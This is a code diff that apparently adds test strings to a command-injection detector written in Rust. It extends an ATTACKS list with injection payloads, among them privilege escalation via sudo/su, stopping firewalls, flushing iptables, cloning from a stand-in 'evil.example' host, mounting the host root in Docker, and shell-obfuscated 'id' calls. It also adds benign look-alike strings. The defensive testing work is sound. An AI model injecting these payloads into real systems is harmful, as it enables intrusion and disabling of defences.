@@ -60,6 +60,23 @@ const ATTACKS: &[&str] = &[
     ";a=c;b=at;$a$b /etc/passwd",
     "1;x=id;$x",
     "John Smith; $a$b /etc/passwd",
+    // What administrators call.
+    "; su root",
+    "x.txt; sudo -l",
+    "; sudo su -",
+    "|systemctl stop firewalld",
+    "1; service apache2 stop",
+    "; iptables -F",
+    "&& halt",
+    "; apt-get install nmap -y",
+    "; git clone http://evil.example/x",
+    "new; docker run -v /:/x alpine",
+    "& tasklist | findstr /B x",
+    "; history | tail",
+    // Words that are put together by the shell.
+    ";bash<<<id",
+    ";$0<<<id",
+    ";${PATH:0:1}bin${PATH:0:1}id",
     // Whole commands.
     "' whoami",
     "which nc",
@@ -185,6 +202,12 @@ const ATTACKS: &[&str] = &[
 
 /// What honest people and their programs say.
 const LOOK_ALIKES: &[&str] = &[
+    "ok; git pull",
+    "done; docker is next",
+    "25; service fee included",
+    "| shutdown | driver tick | readiness |",
+    "  - &SS Sammy Sosa",
+    "milk; zip code; init phase",
     // Commands as people talk about them.
     "ls",
     "whoami",
